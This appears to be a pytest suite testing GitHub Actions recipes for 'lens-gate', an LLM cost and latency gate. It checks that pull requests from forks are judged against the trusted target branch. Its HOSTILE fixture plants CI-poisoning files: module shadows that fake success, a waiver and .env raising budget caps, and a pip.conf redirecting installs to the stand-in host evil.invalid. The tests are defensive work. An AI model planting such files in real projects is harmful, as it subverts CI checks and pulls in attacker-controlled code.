"""The recipes run: their steps as the files have them, real repositories, the host's events."""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from ruamel.yaml import YAML

ROOT = Path(__file__).parents[2]
RECIPES = ROOT / "examples" / "github"
LENS_GATE = Path(sys.executable).with_name("lens-gate")
_FOREIGN = ("GIT_", "GITHUB_", "GITLAB_", "CI", "LENS_GATE_", "OPENAI_")
OWN_FILES = ("lens-gate.yaml", "prompts", "baselines")


class House:
    """A bare remote of our own gate's files, a job's clone of it, and the job's runner."""

    def __init__(self, folder, *, one_target=False):
        self.folder = folder
        kept = {n: v for n, v in os.environ.items() if not n.startswith(_FOREIGN)}
        who = {
            f"GIT_{r}_{p}": v
            for r in ("AUTHOR", "COMMITTER")
            for p, v in (("NAME", "A"), ("EMAIL", "a@b"))
        }
        self.environ = kept | who | {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
        self.author = folder / "author"
        self.author.mkdir()
        self.git("init", "-q", "-b", "main")
        for name in OWN_FILES:
            place = ROOT / name
            (shutil.copytree if place.is_dir() else shutil.copy)(place, self.author / name)
        if one_target:  # as much as a fork's small cap pays for
            policy = self.author / "lens-gate.yaml"
            text = policy.read_text().replace("[chat, messages]", "[chat]")
            text = re.sub(r".*metric: (?:ttft|e2e)\.typ.*\n", "", text)
            policy.write_text(text.replace("min: 20, max: 80", "min: 16, max: 24"))
        self.base = self.commit()
        self.git("clone", "-q", "--bare", ".", "../remote.git")
        self.git("remote", "add", "origin", f"{folder}/remote.git")
        self.git("clone", "-q", f"{folder}/remote.git", "../job")
        self.job = folder / "job"
        self.temp = folder / "temp"
        self.temp.mkdir()

    def git(self, *arguments, cwd=None):
        done = subprocess.run(
            ["git", *arguments],
            cwd=cwd or self.author,
            env=self.environ,
            capture_output=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr.decode()
        return done.stdout.decode().strip()

    def commit(self, files=()):
        for name, text in dict(files).items():
            place = self.author / name
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text, "utf-8")
        self.git("add", "-A")
        self.git("commit", "-q", "-m", "c")
        return self.git("rev-parse", "HEAD")

    def files(self, branch="main"):
        listed = self.git("ls-tree", "-r", "--name-only", branch, cwd=self.folder / "remote.git")
        return set(listed.split("\n"))

    def actions(self, event, payload, **more):
        (self.folder / "event.json").write_text(json.dumps(payload))
        return {
            "CI": "true",
            "GITHUB_ACTIONS": "true",
            "GITHUB_EVENT_NAME": event,
            "GITHUB_EVENT_PATH": str(self.folder / "event.json"),
            "GITHUB_SHA": self.git("rev-parse", "HEAD", cwd=self.job),
            "GITHUB_REF": "refs/heads/main",
            "GITHUB_REPOSITORY": "org/house",
            "RUNNER_TEMP": str(self.temp),
            **more,
        }

    def gate(self, step, given, said):
        """What the action does with a step's inputs: they are variables of one command."""
        inputs = {
            f"LENS_GATE_{name.upper().replace('-', '_')}": str(value)
            for name, value in step.get("with", {}).items()
        }
        output = {"LENS_GATE_OUTPUT": str(self.temp / "lens-gate-out")}
        env = {name: evaluated(value, given) for name, value in step.get("env", {}).items()}
        return self.run([LENS_GATE, "gate"], said | output | inputs | env)

    def script(self, step, given, said):
        env = {name: evaluated(value, given) for name, value in step.get("env", {}).items()}
        return self.run(["bash", "-e", "-o", "pipefail", "-c", step["run"]], said | env)

    def run(self, command, variables):
        return subprocess.run(
            [str(word) for word in command],
            cwd=self.job,
            env=self.environ | variables,
            capture_output=True,
            text=True,
            check=False,
            timeout=300,
        )

    def report(self):
        return json.loads((self.temp / "lens-gate-out" / "report.json").read_text())


def evaluated(value, given):
    """The `${{ name }}` of a step's environment; what is not given is empty, as on GitHub."""
    return re.sub(r"\$\{\{ (\S+) \}\}", lambda match: given.get(match[1], ""), str(value))


def job_of(name):
    (job,) = YAML(typ="safe", pure=True).load(RECIPES / f"{name}.yml")["jobs"].values()
    return job


def step_of(job, what):
    return next(s for s in job["steps"] if what in s.get("uses", "") + s.get("run", ""))


@pytest.fixture
def house(tmp_path):
    return House(tmp_path)


@pytest.fixture
def small(tmp_path):
    return House(tmp_path, one_target=True)


def _pull(house, head, *, fork):
    return {
        "action": "labeled",
        "pull_request": {
            "number": 7,
            "base": {"ref": "main", "sha": house.base, "repo": {"id": 1}},
            "head": {"sha": head, "repo": {"id": 2 if fork else 1}},
        },
    }


HOSTILE = {
    # Waives its failures, raises its caps, and brings what Python would import.
    "baselines/waivers.yaml": """\
version: 1
waivers:
  - {rule: cost-usd-mean, cell: short/chat, ceiling: 900%, reason: mine, who: me,
     created: '2026-11-20', expires: '2026-12-20'}
""",
    "click.py": "raise SystemExit(0)\n",
    "lens_gate/__init__.py": "raise SystemExit(0)\n",
    "sitecustomize.py": "raise SystemExit(0)\n",
    "pip.conf": "[global]\nindex-url = https://evil.invalid\n",
    ".env": "LENS_GATE_MAX_USD=99\n",
}


def _dearer(text):
    """The policy with a system prompt that doubles the input's price, and so the request's."""
    return text.replace("    max_output", f"    system: {'Be brief. ' * 120}\n    max_output")


def _hostile(house):
    text = (house.author / "lens-gate.yaml").read_text()
    longer = _dearer(text)
    lax = longer.replace("max_usd: 0.50", "max_usd: 99").replace(
        "      - {metric: cost_usd.mean}\n", ""
    )
    assert len({text, longer, lax}) == 3
    head = house.commit(HOSTILE | {"lens-gate.yaml": lax})
    house.git("push", "-q", "origin", f"{head}:refs/pull/7/head")
    return head


def _judged_as_trusted(house, done, head):
    assert done.returncode == 1, done.stdout + done.stderr
    report = house.report()
    assert (report["refs"]["head"], report["refs"]["trust_ref"]) == (head, house.base)
    failed = {r["rule"] for r in report["rows"] if r["verdict"]["verdict"] == "fail"}
    assert "cost-usd-mean" in failed
    assert float(report["spend"]["cap_usd"]) <= 0.5
    after = {c["path"] for c in report["changes"] if c["effect"] == "after_merge"}
    assert {"budget.max_usd", "scenarios.short.gates.cost-usd-mean"} <= after
    assert house.git("status", "--porcelain", cwd=house.job) == ""


def test_the_trusted_workflow_judges_a_hostile_pull_request_by_the_target_branch(house):
    head = _hostile(house)
    said = house.actions("pull_request_target", _pull(house, head, fork=False))
    done = house.gate(step_of(job_of("trusted"), "llm-latency-lens"), {}, said)
    _judged_as_trusted(house, done, head)


def test_a_label_has_a_forks_head_measured(small):
    head = _hostile(small)
    said = small.actions("pull_request_target", _pull(small, head, fork=True))
    done = small.gate(step_of(job_of("measure-fork"), "llm-latency-lens"), {}, said)
    _judged_as_trusted(small, done, head)
    assert float(small.report()["spend"]["cap_usd"]) == 0.1


def test_a_maintainer_has_a_forks_head_measured_by_its_commit(small):
    head = _hostile(small)
    said = small.actions("workflow_dispatch", {"repository": {"default_branch": "main"}})
    given = {"inputs.pull": "7", "inputs.head": head}
    step = step_of(job_of("measure-fork"), "llm-latency-lens")
    done = small.gate(step, given, said)
    _judged_as_trusted(small, done, head)
    assert float(small.report()["spend"]["cap_usd"]) == 0.1
    late = small.gate(step, given | {"inputs.head": small.base}, said)
    assert late.returncode == 2
    assert "nothing is sent" in late.stderr


def test_a_run_after_a_merge_is_measured_stored_and_pushed(house):
    job = job_of("baselines")
    before = house.files()
    said = house.actions("push", {})
    done = house.gate(step_of(job, "llm-latency-lens"), {}, said)
    assert done.returncode == 0, done.stdout + done.stderr
    program = house.temp / "lens-gate" / "bin" / "lens-gate"
    program.parent.mkdir(parents=True)
    program.symlink_to(LENS_GATE)
    store = step_of(job, "baseline push")
    done = house.script(store, {"runner.temp": str(house.temp)}, said)
    assert done.returncode == 0, done.stdout + done.stderr
    new = house.files() - before
    assert {name.rpartition("/")[0] for name in new} == {
        "baselines/short/chat",
        "baselines/short/messages",
    }
    assert len(new) == 2
    assert before < house.files()


def test_a_run_that_measured_nothing_stores_nothing(house):
    store = step_of(job_of("baselines"), "baseline push")
    done = house.script(store, {"runner.temp": str(house.temp)}, house.actions("push", {}))
    assert done.returncode == 0
    assert house.git("rev-parse", "main", cwd=house.folder / "remote.git") == house.base


def test_our_own_gate_tells_a_change_from_none(house):
    house.git("fetch", "-q", cwd=house.job)
    calm = house.run([LENS_GATE, "gate", "--base", "main", "--output", house.temp / "calm"], {})
    assert calm.returncode == 0, calm.stdout + calm.stderr
    text = (house.job / "lens-gate.yaml").read_text()
    (house.job / "lens-gate.yaml").write_text(_dearer(text))
    slow = house.run([LENS_GATE, "gate", "--base", "main", "--output", house.temp / "slow"], {})
    assert slow.returncode == 1, slow.stdout + slow.stderr
    assert "duet: requests differ in short/chat" in slow.stdout
